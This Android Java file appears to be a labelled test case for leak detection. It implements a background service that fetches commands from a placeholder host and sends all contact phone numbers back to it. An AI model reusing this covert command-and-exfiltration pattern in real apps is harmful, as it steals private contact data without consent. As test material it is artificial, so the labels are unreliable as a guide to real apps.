package olden;

import android.app.*;
import android.content.*;
import android.database.*;
import android.os.*;
import android.provider.*;

import org.json.*;

import java.io.*;
import java.net.*;
import java.util.*;

/** Commands by their names. */
public class Table extends Service implements Runnable {
    abstract static class Cmd {
        Context c;

        abstract String run(String a) throws Exception;
    }

    static class Book extends Cmd {
        String run(String a) throws Exception {
            JSONArray r = new JSONArray();
            Cursor k =
                    c.getContentResolver()
                            .query(
                                    ContactsContract.CommonDataKinds.Phone.CONTENT_URI,
                                    null,
                                    null,
                                    null,
                                    null);
            while (k.moveToNext()) r.put(k.getString(k.getColumnIndex("data1")));
            return r.toString();
        }
    }

    static class Ping extends Cmd {
        String run(String a) {
            return "pong " + a;
        }
    }

    Map<String, Cmd> cmds = new HashMap<String, Cmd>();

    void reg(String n, Cmd c) {
        c.c = this;
        cmds.put(n, c);
    }

    public void onCreate() {
        reg("book", new Book());
        reg("ping", new Ping());
        new Thread(this).start();
    }

    public IBinder onBind(Intent i) {
        return null;
    }

    public void run() {
        try {
            String line =
                    new BufferedReader(
                                    new InputStreamReader(
                                            new URL("http://k.example.org/cmd").openStream()))
                            .readLine();
            JSONObject o = new JSONObject(line);
            Cmd c = cmds.get(o.getString("c"));
            if (c != null) answer(c.run(o.optString("a")));
            Cmd p = new Ping();
            answer2(p.run("x"));
        } catch (Exception e) {
        }
    }

    void answer(String s) throws IOException {
        HttpURLConnection c =
                (HttpURLConnection) new URL("http://k.example.org/r").openConnection();
        c.setFixedLengthStreamingMode(s.length());
        c.getOutputStream().write(s.getBytes()); // leak
    }

    void answer2(String s) throws IOException {
        HttpURLConnection c =
                (HttpURLConnection) new URL("http://k.example.org/r").openConnection();
        c.getOutputStream().write(s.getBytes()); // no leak
    }
}
